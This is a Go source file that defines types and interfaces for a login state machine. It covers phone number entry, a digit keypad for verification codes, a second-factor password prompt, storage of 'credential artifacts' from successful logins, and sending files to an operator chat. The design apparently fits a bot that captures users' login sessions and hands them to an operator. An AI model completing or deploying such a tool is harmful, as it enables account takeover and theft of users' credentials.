// Package flow implements the per-user login state machine: phone number ->
// verification code -> optional second factor. State transitions for one user
// are serialized; unrelated users proceed concurrently.
package flow

import (
	"context"
	"strings"

	"github.com/nvoloshin/authbridge/auth/code"
)

// State identifies the login flow step for one user.
type State string

const (
	// StateIdle indicates no active login attempt.
	StateIdle State = "idle"
	// StateAwaitingCode indicates a code was requested and keypad input is expected.
	StateAwaitingCode State = "awaiting_code"
	// StateAwaitingSecondFactor indicates the service asked for a password.
	StateAwaitingSecondFactor State = "awaiting_2fa"
)

// Keypad actions carried by inline callbacks alongside single digits.
const (
	KeyClear  = "clear"
	KeyDelete = "del"
)

// User describes the sender of an inbound event.
type User struct {
	ID        int64
	Username  string
	FirstName string
	LastName  string
}

// DisplayName returns a human-readable label for operator notifications.
func (u User) DisplayName() string {
	if u.Username != "" {
		return "@" + u.Username
	}
	name := strings.TrimSpace(u.FirstName + " " + u.LastName)
	if name != "" {
		return name
	}
	return "unknown"
}

// UserStore persists known users and their phone numbers.
// RecordUser must be idempotent (insert-if-absent).
type UserStore interface {
	RecordUser(ctx context.Context, id int64, username, firstName, lastName string) error
	SavePhone(ctx context.Context, id int64, phone string) error
	Phone(ctx context.Context, id int64) (string, bool, error)
	CountUsers(ctx context.Context) (int, error)
}

// ArtifactStore persists credential artifacts produced by successful logins.
// Save must complete before the artifact is forwarded anywhere.
type ArtifactStore interface {
	Save(ctx context.Context, userID int64, attemptID string, data []byte) error
	Load(ctx context.Context, userID int64) ([]byte, error)
}

// Sink delivers outbound human-readable messages. Delivery failures are
// logged by the flow, never retried.
type Sink interface {
	// Notify sends plain text to a user or operator chat.
	Notify(ctx context.Context, chatID int64, text string) error
	// NotifyDocument sends a file attachment with a caption.
	NotifyDocument(ctx context.Context, chatID int64, caption, filename string, data []byte) error
	// PromptContact asks the user to share their phone number.
	PromptContact(ctx context.Context, userID int64, text string) error
	// AckContact thanks the user and withdraws the contact keyboard.
	AckContact(ctx context.Context, userID int64, text string) error
	// ShowCodePad presents the digit-entry keypad.
	ShowCodePad(ctx context.Context, userID int64, prompt, entered string) error
	// UpdateCodePad re-renders the current input line under the keypad.
	UpdateCodePad(ctx context.Context, userID int64, prompt, entered string) error
	// PromptPassword asks for the second-factor password.
	PromptPassword(ctx context.Context, userID int64, text string) error
}

// attempt is the in-progress login record for one user. It exists only while
// the flow is in StateAwaitingCode and is discarded synchronously with code
// submission, whatever the outcome.
type attempt struct {
	id       string
	phone    string
	codeHash string
	buffer   *code.Buffer
}
